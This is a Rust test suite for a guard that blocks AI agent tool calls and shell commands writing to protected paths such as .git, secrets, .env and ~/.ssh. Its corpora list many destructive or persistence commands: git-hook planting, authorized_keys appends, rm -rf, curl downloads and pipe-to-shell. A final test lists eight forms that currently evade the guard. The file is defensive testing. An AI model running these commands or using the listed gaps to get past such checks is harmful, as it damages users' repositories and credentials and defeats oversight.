//! `protected-paths` against a corpus of write calls in a real temporary project with symlinks:
//! what it must block (every way of naming a protected path) and what it must let through.
//! Prints the corpus sizes and the false positives and negatives.

use std::path::{Path, PathBuf};

use hookchain_core::ToolCall;
use hookchain_core::points::InterceptToolCall;
use hookchain_guards::{BuiltinsExt, ProtectedPaths};
use hookchain_runtime::HooksBuilder;
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::support::temp_dir;

/// A temporary project: `.git/`, `src/`, `secrets/`, a symlink `link-to-git -> .git`, a
/// symlink `docs/git -> ../.git`, and a symlink `outside -> <elsewhere>` whose target is
/// protected by its absolute path. Removed when dropped.
struct Project {
    root: PathBuf,
    elsewhere: PathBuf,
    _base: TempDir,
}

impl Project {
    fn new() -> Project {
        let base = temp_dir();
        let root = base.path().join("repo");
        let elsewhere = base.path().join("elsewhere");
        for dir in [".git", "src", "secrets", "docs", ".github/workflows"] {
            std::fs::create_dir_all(root.join(dir)).unwrap();
        }
        std::fs::create_dir_all(&elsewhere).unwrap();
        std::fs::write(root.join(".git/config"), "").unwrap();
        std::os::unix::fs::symlink(".git", root.join("link-to-git")).unwrap();
        std::os::unix::fs::symlink("../.git", root.join("docs/git")).unwrap();
        std::os::unix::fs::symlink(&elsewhere, root.join("outside")).unwrap();
        Project {
            root,
            elsewhere,
            _base: base,
        }
    }

    fn guard(&self) -> ProtectedPaths {
        ProtectedPaths {
            paths: vec![
                ".git".into(),
                "secrets/".into(),
                "hookchain.yaml".into(),
                "*.pem".into(),
                "config/*.prod.yaml".into(),
                self.elsewhere.display().to_string(),
            ],
            project_dir: Some(self.root.display().to_string()),
            ..ProtectedPaths::default()
        }
    }
}

fn calls_to_block(root: &Path, elsewhere: &Path) -> Vec<ToolCall> {
    let abs = |p: &str| root.join(p).display().to_string();
    vec![
        ToolCall::new("write_file", json!({"path": ".git/config", "content": "x"})),
        ToolCall::new("write_file", json!({"path": "./.git/hooks/pre-commit"})),
        ToolCall::new("write_file", json!({"path": "src/../.git/config"})),
        ToolCall::new("write_file", json!({"path": "src//..//.git/HEAD"})),
        ToolCall::new("write_file", json!({"path": ".git"})),
        ToolCall::new("Write", json!({"file_path": abs(".git/config")})),
        ToolCall::new("Edit", json!({"file_path": abs("src/../secrets/prod.env")})),
        ToolCall::new("edit_file", json!({"path": "secrets/api.txt"})),
        ToolCall::new(
            "MultiEdit",
            json!({"file_path": "hookchain.yaml", "edits": []}),
        ),
        ToolCall::new("write_file", json!({"path": "certs/server.pem"})),
        ToolCall::new("write_file", json!({"path": "config/db.prod.yaml"})),
        // symlinks: inside the project, pointing at protected paths
        ToolCall::new("write_file", json!({"path": "link-to-git/config"})),
        ToolCall::new("write_file", json!({"path": "docs/git/hooks/post-merge"})),
        ToolCall::new("write_file", json!({"path": "outside/notes.txt"})),
        ToolCall::new(
            "write_file",
            json!({"path": elsewhere.join("x").display().to_string()}),
        ),
        // `..` out of a subdirectory and back in
        ToolCall::new(
            "write_file",
            json!({"path": format!("../repo/.git/config")}),
        ),
        // nested args and lists
        ToolCall::new(
            "MultiEdit",
            json!({"edits": [{"file_path": "src/a.rs"}, {"file_path": ".git/index"}]}),
        ),
        ToolCall::new(
            "move_file",
            json!({"source": "src/a.rs", "destination": ".git/a.rs"}),
        ),
        ToolCall::new(
            "delete_file",
            json!({"paths": ["src/old.rs", "secrets/key"]}),
        ),
        ToolCall::new(
            "str_replace_based_edit_tool",
            json!({"command": "create", "path": abs(".git/description")}),
        ),
        // patches
        ToolCall::new(
            "apply_patch",
            json!({"input": "*** Begin Patch\n*** Update File: src/a.rs\n*** Add File: .git/hooks/x\n+evil\n*** End Patch\n"}),
        ),
        ToolCall::new(
            "apply_patch",
            json!({"patch": "--- a/secrets/db.txt\n+++ b/secrets/db.txt\n@@ -1 +1 @@\n-a\n+b\n"}),
        ),
    ]
}

fn calls_to_allow(root: &Path) -> Vec<ToolCall> {
    vec![
        ToolCall::new("write_file", json!({"path": "src/main.rs"})),
        ToolCall::new("write_file", json!({"path": ".github/workflows/ci.yml"})),
        ToolCall::new("write_file", json!({"path": ".gitignore"})),
        ToolCall::new("write_file", json!({"path": "docs/git-guide.md"})),
        ToolCall::new("write_file", json!({"path": "secrets-notes.md"})),
        ToolCall::new("write_file", json!({"path": "src/secrets/mod.rs"})),
        ToolCall::new("write_file", json!({"path": "hookchain.yaml.example"})),
        ToolCall::new("write_file", json!({"path": "docs/hookchain.yaml"})),
        ToolCall::new("write_file", json!({"path": "pem.md"})),
        ToolCall::new("write_file", json!({"path": "config/db.dev.yaml"})),
        ToolCall::new(
            "write_file",
            json!({"path": "config/nested/db.prod.yaml.md"}),
        ),
        ToolCall::new(
            "Write",
            json!({"file_path": root.join("src/lib.rs").display().to_string()}),
        ),
        ToolCall::new("Edit", json!({"file_path": "src/../README.md"})),
        ToolCall::new("write_file", json!({"path": "/tmp/scratch.txt"})),
        ToolCall::new(
            "apply_patch",
            json!({"input": "*** Begin Patch\n*** Update File: src/a.rs\n*** End Patch\n"}),
        ),
        // reads are not writes
        ToolCall::new("read_file", json!({"path": ".git/config"})),
        ToolCall::new("Read", json!({"file_path": "secrets/api.txt"})),
        ToolCall::new("Grep", json!({"path": ".git", "pattern": "x"})),
        // the content may mention anything
        ToolCall::new(
            "write_file",
            json!({"path": "notes.md", "content": "see .git/config and secrets/"}),
        ),
    ]
}

#[test]
fn writes_into_protected_paths_are_blocked_however_they_are_named() {
    let project = Project::new();
    let guard = project.guard();
    let block = calls_to_block(&project.root, &project.elsewhere);
    let allow = calls_to_allow(&project.root);
    let fneg: Vec<&ToolCall> = block
        .iter()
        .filter(|c| guard.check_call(c).unwrap().is_none())
        .collect();
    let fpos: Vec<(&ToolCall, String)> = allow
        .iter()
        .filter_map(|c| guard.check_call(c).unwrap().map(|why| (c, why)))
        .collect();
    println!(
        "protected-paths corpus: {} to block, {} to allow; false negatives {}, false positives {}",
        block.len(),
        allow.len(),
        fneg.len(),
        fpos.len()
    );
    for c in &fneg {
        println!("  FN: {} {}", c.name, c.args);
    }
    for (c, why) in &fpos {
        println!("  FP: {} {}  =>  {why}", c.name, c.args);
    }
    assert_eq!((fpos.len(), fneg.len()), (0, 0));
}

#[test]
fn the_reason_names_the_path_where_it_resolves_and_the_protected_path() {
    let project = Project::new();
    let why = project
        .guard()
        .check_call(&ToolCall::new(
            "write_file",
            json!({"path": "link-to-git/config"}),
        ))
        .unwrap()
        .unwrap();
    assert!(why.contains("`link-to-git/config`"), "{why}");
    assert!(why.contains(".git/config"), "{why}");
    assert!(why.contains("protected path `.git`"), "{why}");
}

#[test]
fn a_symlinked_project_dir_is_resolved_like_the_paths_in_it() {
    let project = Project::new();
    let alias = project.root.parent().unwrap().join("alias");
    std::os::unix::fs::symlink(&project.root, &alias).unwrap();
    let guard = ProtectedPaths {
        project_dir: Some(alias.display().to_string()),
        ..project.guard()
    };
    let via_real = project.root.join(".git/config").display().to_string();
    assert!(guard.check_path(&via_real).unwrap().is_some());
    assert!(guard.check_path(".git/config").unwrap().is_some());
    assert!(guard.check_path("src/x.rs").unwrap().is_none());
}

#[test]
fn enabled_from_rust_it_blocks_through_the_registry() {
    let project = Project::new();
    let hooks = HooksBuilder::new()
        .builtin(project.guard())
        .build()
        .unwrap();
    let outcome = hooks.dispatch::<InterceptToolCall>(ToolCall::new(
        "write_file",
        json!({"path": "docs/git/config"}),
    ));
    let blocked = outcome
        .flow
        .blocked()
        .expect("a write into .git through a symlink");
    assert_eq!(&*blocked.hook, "protected-paths");
    let ok = hooks
        .dispatch::<InterceptToolCall>(ToolCall::new("write_file", json!({"path": "src/a.rs"})));
    assert!(!ok.is_blocked());
    let _: Option<Value> = None;
}

/// The guard of [`Project`] with `.env` (which it writes) and `/etc` protected too, for shell
/// commands.
fn shell_guard(project: &Project) -> ProtectedPaths {
    std::fs::write(project.root.join(".env"), "KEY=x\n").unwrap();
    let mut guard = project.guard();
    guard
        .paths
        .extend([".env".into(), "/etc".into(), "~/.ssh".into()]);
    guard
}

fn bash(command: &str) -> ToolCall {
    ToolCall::new("bash", json!({ "command": command }))
}

/// Shell commands that write a protected path: every form of writing a file the shell has,
/// through wrappers, nested lines, `cd`, symlinks, globs and variables.
fn shell_writes_to_block(elsewhere: &Path) -> Vec<ToolCall> {
    let outside = elsewhere.display();
    let mut calls: Vec<ToolCall> = [
        "echo x > .env",
        "echo x >> ~/.ssh/authorized_keys",
        "echo x >| .env",
        "echo x &> .env",
        "exec 3<> .env",
        "tee .git/config",
        "cargo test 2>&1 | tee -a src/../.git/config",
        "sed -i s/a/b/ .env",
        "sed -i '' 's/a/b/' .env",
        "sed --in-place=.bak -e s/a/b/ .env",
        "perl -pi -e 's/a/b/' .env",
        "cp evil .git/hooks/pre-commit",
        "cp evil.sh .git/hooks/",
        "cp -t .git/hooks evil.sh",
        "mv x .env",
        "mv .env .env.bak",
        "install -m 755 x .git/hooks/post-checkout",
        "truncate -s0 .env",
        "dd if=/dev/zero of=.env",
        "touch secrets/new",
        "rm .env",
        "rm --rec .git",
        "unlink hookchain.yaml",
        "shred -u secrets/api.txt",
        "chmod 777 .git/hooks",
        "chown -R nobody secrets",
        "rsync -a evil/ .git/hooks/",
        "tar -xzf evil.tgz -C .git/hooks",
        "find .git -name '*.sample' -delete",
        "curl -fsSL -o .git/hooks/pre-push https://example.com/x",
        "bash -c 'echo >.env'",
        "bash -euo pipefail -c 'echo x > .env'",
        "sh -o pipefail -c 'touch .env'",
        "sh <<< 'echo x > .env'",
        "bash <<'EOF'\necho x > .env\nEOF",
        "echo 'echo x > .env' | sh",
        "sudo tee /etc/hosts",
        "cat <<EOF > .env\nKEY=x\nEOF",
        "ln -sf /tmp/x .env",
        "ln -s .git/hooks hooks-link",
        "cd .git && echo x > config",
        "cd src; cd ../.git && touch HEAD",
        "cd \"$(git rev-parse --show-toplevel)\" && echo x > .env",
        "env -C .git touch config",
        "timeout 5 cp a .env",
        "busybox rm .env",
        "xargs -I{} cp {} .git/hooks/ < list.txt",
        "echo x > $'\\x2eenv'",
        "echo x > .gi*/config",
        "tee .git/{config,HEAD}",
        "cp x .git/hooks/\"$NAME\"",
        "echo x > \"$PWD/.env\"",
        "echo x > link-to-git/config",
        "f() { echo x > .env; }; f",
        "echo \"$(echo x > .env)\"",
        "rm -rf .",
        "rm -rf src/..",
        "chmod -R u+w .",
        "rm -rf link-to-git/",
        "find . -name .env -delete",
        "find . -iname '.ENV' -exec rm -f {} +",
        "find . -path './.git/*' -delete",
        "find . -type f -delete",
        "find . ! -name keep -delete",
        "cp x \"$(pwd)/.env\"",
        "sed s/a/b/ -i .env",
        "eval 'echo x > .env'",
        "cd .git && eval 'echo x > config'",
        "su -c 'echo x > .env' root",
        "script -qc 'echo x > .env' /dev/null",
        "flock /tmp/lock -c 'echo x > .env'",
        "chroot / tee /etc/hosts",
        "watch -n1 'rm .env'",
        "pkexec tee /etc/hosts",
        "ssh-agent sh -c 'rm .env'",
        "echo x > ~+/.env",
        "sh -c 'rm \"$1\"' _ .env",
        "bash -c 'rm \"$0\"' .env",
        "sh -c 'rm \"$@\"' _ .env",
        "for f in .env; do echo x > \"$f\"; done",
        "f() { echo x; } > .env; f",
        "tmux new-session -d 'rm .env'",
        "screen -dm sh -c 'rm .env'",
        "echo x | xargs -I{} sh -c 'echo {} > .env'",
    ]
    .iter()
    .map(|c| bash(c))
    .collect();
    calls.extend([
        bash(&format!("echo x > {outside}/notes.txt")),
        bash(&format!("cp x {outside}/*")),
        ToolCall::new("bash", json!({"command": ["bash", "-c", "echo x > .env"]})),
        ToolCall::new("bash", json!({"command": "echo x > config", "cwd": ".git"})),
        ToolCall::new("shell", json!({"cmd": "sed -i s/a/b/ .env"})),
    ]);
    calls
}

/// Everyday shell commands that write no protected path (reads of protected files included).
fn shell_work_to_allow() -> Vec<ToolCall> {
    [
        "cat .env.example",
        "cat .env",
        "cat .git/config",
        "grep -r token secrets/",
        "cp secrets/api.txt /tmp/x",
        "echo hi > out.txt",
        "sed -i s/a/b/ src/main.rs",
        "sed -n 1,5p .env",
        "tee /dev/null",
        "git diff > patch.diff",
        "cargo test 2>&1 | tee test.log",
        "cp .env.example .env.sample",
        "echo x > \"$OUT\"",
        "tee \"$LOG\"",
        "cp x \"$DEST\"",
        "rm -rf ./build target node_modules",
        "mkdir -p src/new && touch src/new/mod.rs",
        "find . -name '*.pyc' -delete",
        "find . -path './build/*' -delete",
        "find src -type f -exec rm {} +",
        "rsync -av src/ backup/",
        "rsync -e 'ssh -i ~/.ssh/key' -av src/ host:dst/",
        "scp -i ~/.ssh/id_ed25519 build.tgz host:",
        "tar -xzf x.tgz -C vendor",
        "cd src && echo x > main.rs",
        "git commit -m 'touch .env'",
        "echo '.env' >> .gitignore",
        "echo x > .github/workflows/ci.yml",
        "chmod +x scripts/run.sh",
        "cat <<EOF\nrm -rf .git\necho x > .env\nEOF",
        "echo 'echo x > .env'",
        "wget -O /tmp/x.tgz https://example.com/x.tgz",
        "curl -fsSL https://example.com/i.sh | tee /tmp/install.sh",
        "ls -la .git && git status",
        "rm link-to-git",
        "ln -s ../shared/settings.yaml settings.yaml",
    ]
    .iter()
    .map(|c| bash(c))
    .collect()
}

#[test]
fn shell_writes_into_protected_paths_are_blocked_in_every_form() {
    let project = Project::new();
    let guard = shell_guard(&project);
    let block = shell_writes_to_block(&project.elsewhere);
    let allow = shell_work_to_allow();
    let fneg: Vec<String> = block
        .iter()
        .filter(|c| guard.check_call(c).unwrap().is_none())
        .map(|c| c.args.to_string())
        .collect();
    let fpos: Vec<String> = allow
        .iter()
        .filter_map(|c| {
            guard
                .check_call(c)
                .unwrap()
                .map(|why| format!("{}  =>  {why}", c.args))
        })
        .collect();
    println!(
        "protected-paths shell corpus: {} to block, {} to allow; false negatives {}, false \
         positives {}",
        block.len(),
        allow.len(),
        fneg.len(),
        fpos.len()
    );
    assert!(fneg.is_empty(), "let through: {fneg:#?}");
    assert!(fpos.is_empty(), "blocked: {fpos:#?}");
}

#[test]
fn a_shell_block_names_the_file_the_writer_and_the_protected_path() {
    let project = Project::new();
    let guard = shell_guard(&project);
    let why = |command: &str| guard.check_call(&bash(command)).unwrap().unwrap();
    let reason = why("sudo tee -a link-to-git/config");
    assert!(
        reason.starts_with("`bash` would write `link-to-git/config` (it resolves to "),
        "{reason}"
    );
    assert!(
        reason.contains("with `tee`, inside the protected path `.git`"),
        "{reason}"
    );
    let reason = why("rm -rf src/..");
    assert!(reason.contains("and all it holds with `rm -r`"), "{reason}");
    assert!(
        reason.contains("holds the protected path `.git`"),
        "{reason}"
    );
    let reason = why("cp x .git/hooks/\"$NAME\"");
    assert!(reason.contains("a file in "), "{reason}");
    assert!(reason.contains("only known when it runs"), "{reason}");
}

/// How the shell guard of a fresh [`Project`] judges `block` and `allow`: the lines of `block`
/// it lets through and those of `allow` it blocks (with the reason).
fn judged(block: &[&str], allow: &[&str]) -> (Vec<String>, Vec<String>) {
    let project = Project::new();
    let guard = shell_guard(&project);
    let through = block
        .iter()
        .filter(|c| guard.check_call(&bash(c)).unwrap().is_none())
        .map(|c| (*c).to_owned())
        .collect();
    let blocked = allow
        .iter()
        .filter_map(|c| {
            let why = guard.check_call(&bash(c)).unwrap()?;
            Some(format!("{c}  =>  {why}"))
        })
        .collect();
    (through, blocked)
}

/// A word whose value the line states, though it computes it: a variable's default (the
/// variable unknown, the default is what it may be) and what `echo` or `printf` prints in a
/// substitution.
#[test]
fn defaults_and_printed_substitutions_name_their_files() {
    let (through, blocked) = judged(
        &[
            "echo x > ${OUT:-.env}",
            "echo x > \"${OUT:-.env}\"",
            "echo x >> ${OUT-.env}",
            "echo x > ${OUT:=.env}",
            "echo x > ${OUT:+.env}",
            "echo x >> ${HOME:-/root}/.ssh/authorized_keys",
            "cp x \"${DEST:-.git/hooks}/pre-commit\"",
            "rm -rf ${DIR:-.git}",
            "bash -c 'echo x > ${F:-.env}'",
            "echo x > $(echo .env)",
            "echo x > `echo .env`",
            "echo x > $(printf .env)",
            "cp x \"$(echo .git)/hooks/p\"",
            "rm -rf `echo .git`",
            // A directory to go to, or to work in.
            "cd ${D:-.git} && touch x",
            "cd $(echo .git) && touch x",
            "pushd ${D:-.git} && touch x",
            "cd \"${D:-.git}/hooks\" && touch pre-commit",
            "env -C ${D:-.git} touch x",
            "tar -xf x.tar -C ${D:-.git}",
            "unzip x.zip -d $(echo .git)",
            "git -C ${D:-.} checkout -- .env",
        ],
        &[
            "cd ${D:-build} && touch x",
            "cd $(echo src) && rm -f x.o",
            "echo x > ${OUT:-build/out.txt}",
            "cp x ${DEST:-build/}",
            "rm -rf ${SCRATCH:-/nonexistent-scratch}/x",
            "mkdir -p ${BUILD_DIR:-build}",
            "echo x > $(echo build/out.txt)",
            "echo \"$(echo .env)\" > notes.txt",
            "echo x > \"$OUT\"",
        ],
    );
    assert!(through.is_empty(), "let through: {through:#?}");
    assert!(blocked.is_empty(), "blocked: {blocked:#?}");
}

/// Code given to a shell the line states (piped from `cat`'s here-document, through a
/// wrapper, in a process substitution, by `env -S`), what `xargs` is fed (a here-string,
/// `echo`, a `find`), and what a `find` runs on what it finds, through wrappers and shells.
#[test]
fn code_fed_to_shells_and_paths_fed_to_writers_are_read() {
    let (through, blocked) = judged(
        &[
            "echo 'rm .env' | sudo sh",
            "cat <<'EOF' | bash\nrm .env\nEOF",
            "cat <<EOF | sh -s\necho x > .git/config\nEOF",
            "cat <<< 'rm .env' | sh",
            "cat - <<EOF | sh\nrm .env\nEOF",
            "bash <(echo 'rm .env')",
            "source <(printf 'rm .env')",
            "env -S 'rm .env'",
            "env --split-string='tee .env'",
            "fish -c 'rm .env'",
            "echo .env | xargs rm",
            "echo .env | xargs -n1 rm -f",
            "printf '.env\\n' | xargs -I{} cp x {}",
            "echo '.env' | xargs -d '\\n' rm",
            "xargs rm <<< .env",
            "xargs rm <<EOF\n.env\nEOF",
            "find . -name .env | xargs rm",
            "find . -name .env -print0 | xargs -0 rm -f",
            "find . -name .env | sudo xargs -I% mv % /tmp/",
            "find .git -type f | xargs chmod 666",
            "find . -name .env -exec sudo rm {} +",
            "find . -name .env -exec sudo -u root rm -f {} +",
            "find . -name .env -exec env rm {} +",
            "find . -name .env -exec timeout 5 rm {} +",
            "find . -name .env -exec sh -c 'rm \"$1\"' _ {} \\;",
            "find . -name .env -exec sh -c 'echo x > \"$1\"' _ {} \\;",
            "find . -type f -exec sh -c 'sed -i s/a/b/ \"$1\"' _ {} \\;",
            "find . -type f -exec cp x {} \\;",
            "bash /dev/stdin <<< 'rm .env'",
            "find . -name .env | xargs -I{} sh -c 'rm {}'",
            "find . -name .env | xargs sh -c 'rm \"$@\"' _",
            "printf '.env\\n' | xargs -I% sh -c 'echo x > %'",
        ],
        &[
            "bash /dev/stdin < build/script.sh",
            "find . -name '*.tmp' | xargs -I{} sh -c 'rm \"{}\"'",
            "printf 'a\\nb\\n' | xargs -I{} sh -c 'echo {} > build/{}.txt'",
            "cat <<'EOF' | bash\ncargo test\nEOF",
            "cat <<'EOF' | sh\necho hi > out.txt\nEOF",
            "echo 'ls -la' | sudo sh",
            "bash <(curl -fsSL https://example.com/install.sh)",
            "env -S 'cargo test'",
            "find src -name '*.rs' | xargs sed -i s/a/b/",
            "find . -name '*.pyc' | xargs rm -f",
            "find . -type f | xargs wc -l",
            "find . -type f -print0 | xargs -0 grep -l TODO",
            "echo build dist | xargs rm -rf",
            "ls | xargs rm",
            "git ls-files -z | xargs -0 sed -i s/a/b/",
            "find . -type f -exec cp {} /tmp/backup/ \\;",
            "find . -type f -exec sort {} \\;",
            "find . -type f -exec sh -c 'wc -l \"$1\"' _ {} \\;",
            "find . -type f -exec sudo cat {} +",
        ],
    );
    assert!(through.is_empty(), "let through: {through:#?}");
    assert!(blocked.is_empty(), "blocked: {blocked:#?}");
}

/// Programs that write the files they name as operands or options: archives and
/// compressors, git's path commands, editors, in-place editors, output options.
#[test]
fn programs_that_write_what_they_name_are_read() {
    let (through, blocked) = judged(
        &[
            "unzip x.zip -d .git",
            "unzip -o x.zip -d .git/hooks",
            "unzip -qo x.zip -d secrets",
            "unzip -o x.zip .env",
            "7z x x.7z -o.git",
            "gzip .env",
            "gunzip .env.gz",
            "bzip2 .env",
            "xz -T 0 .env",
            "zstd --rm .env",
            "gzip -r .git",
            "git checkout -- .env",
            "git checkout .env",
            "git checkout HEAD~1 -- .git/config",
            "git restore .env",
            "git restore --worktree --staged .env",
            "git rm -f .env",
            "git mv .env x",
            "git clean -f .env",
            "sqlite3 .env 'create table t(x)'",
            "sqlite3 .env < x.sql",
            "sqlite3 build/x.db '.output .env' 'select 1'",
            "ed -s .env <<< $'1d\\nw'",
            "ex -sc 'wq' .env",
            "vim -c 'wq' .env",
            "vi -es .env",
            "nvim --headless -c 'wq' .env",
            "emacs --batch .env -f save-buffer",
            "awk -i inplace '{print}' .env",
            "gawk -i inplace -v x=1 '{print}' .env",
            "yq -i '.a = 1' hookchain.yaml",
            "split -l1 x .git/hooks/p",
            "csplit -f .git/hooks/p x 1",
            "sort -o .env x",
            "sort x -o .env",
            "sort --output=.env x",
            "uniq x .env",
            "xxd -r x .env",
            "sponge .env",
            "mkfifo .git/x",
            "mknod .git/x p",
            "rename 's/env/x/' .env",
            "iconv -f utf8 -t ascii -o .env x",
            "openssl genrsa -out key.pem 2048",
            "gpg -o .env -d x.gpg",
            "gpg --output=.env --decrypt x.gpg",
            "ssh-keygen -t ed25519 -f ~/.ssh/id_new -N ''",
            "scp host:f .env",
            "scp -r host:d .git/hooks",
            "mktemp -p .git",
            "mktemp .git/XXXX",
            "setfacl -m u:x:rw .env",
            "chattr +i .env",
            "strace -o .env ls",
            "script -q .env",
            "npx rimraf .git",
            "bunx rimraf@5 secrets",
            "find . -fprint .git/x",
            "find . -name .env -exec gzip {} +",
        ],
        &[
            "unzip -l x.zip",
            "unzip x.zip -d build",
            "unzip -o x.zip -x .env",
            "7z l x.7z",
            "gzip -k build/log.txt",
            "gzip -c .env > /tmp/env.gz",
            "gzip -t x.gz",
            "zstd -d x.zst -o build/x",
            "git checkout main",
            "git checkout -b feature",
            "git checkout -- .",
            "git checkout main -- src/",
            "git restore --staged .env",
            "git rm --cached .env",
            "git rm -r --cached secrets",
            "git mv src/a.rs src/b.rs",
            "git clean -fd build",
            "sqlite3 build/x.db 'select * from t'",
            "sqlite3 -readonly secrets/x.db 'delete from t'",
            "sqlite3 secrets/x.db .schema",
            "vim -R .env",
            "vim --version",
            "awk -F= '{print $1}' .env",
            "awk -i inplace '{print}' src/a.txt",
            "yq '.a' hookchain.yaml",
            "split -l 100 .env build/part_",
            "sort -o sorted.txt .env",
            "sort -u .env > sorted.txt",
            "uniq .env",
            "uniq -c .env counts.txt",
            "xxd .env",
            "iconv -f utf8 -t ascii .env > build/x",
            "openssl x509 -in cert.pem -noout -text",
            "openssl req -new -key k -out build/req.csr",
            "gpg --verify x.sig x",
            "ssh-keygen -lf ~/.ssh/id_ed25519.pub",
            "ssh-keygen -y -f ~/.ssh/id_ed25519",
            "ssh-keygen -F github.com",
            "ssh-keygen -t ed25519 -f build/key -N ''",
            "scp host:f build/",
            "scp .env host:",
            "mktemp",
            "mktemp -d",
            "mktemp build/x.XXXX",
            "time cargo build",
            "strace -f -o /tmp/trace ls",
            "script -q /dev/null -c 'ls'",
            "npx prettier --write src/a.js",
            "npx rimraf build",
        ],
    );
    assert!(through.is_empty(), "let through: {through:#?}");
    assert!(blocked.is_empty(), "blocked: {blocked:#?}");
}

/// The known limits, held as they are: forms that write a protected path and get through
/// because the shell model (`hookchain-shell`) does not yet say what they run or name — the
/// guard reads what the model gives it, and each fix belongs in the model. The module docs of
/// `protected_paths` list them. When the model learns one, this test fails: move the form to
/// the table of writes that block.
///
/// - a `for` loop over a glob gives its variable each file it matches, and the model leaves
///   the variable unknown: a variable holds one known value or none, not a glob's parts (a
///   loop over known words, it reads);
/// - the arguments a function is given are known words, and the model leaves them unknown:
///   it reads a function's body once, where it is defined, not at each call with its words
///   (a `-c` string's operands, it reads);
/// - `parallel` runs its command with each word of its `:::` lists, which the model does not
///   read;
/// - a backslash-newline inside a word joins it (`.e\<newline>nv` is `.env`); the grammar
///   ends the word there, and the model lists the line as unread, which the guard does not
///   judge;
/// - `CDPATH=DIR cd X` goes to `DIR/X`, and the model takes `CDPATH` from its context only;
///   `printf -v`, `read` and an array set a variable the model leaves unknown (their values
///   are not computed).
#[test]
fn forms_the_shell_model_does_not_read_yet_are_the_documented_limits() {
    let (through, blocked) = judged(
        &[
            "for f in .git/hooks/*; do cp evil \"$f\"; done",
            "f() { rm \"$1\"; }; f .env",
            "parallel rm ::: .env",
            "echo x > .e\\\nnv",
            "CDPATH=.git cd hooks && touch x",
            "printf -v x '%s' .env; echo y > \"$x\"",
            "read -r x <<< .env; echo y > \"$x\"",
            "x=(.env); echo y > \"${x[0]}\"",
        ],
        &[],
    );
    assert_eq!(
        through.len(),
        8,
        "a known limit now blocks; move it to the writes that block: {through:#?}"
    );
    assert!(blocked.is_empty(), "blocked: {blocked:#?}");
}
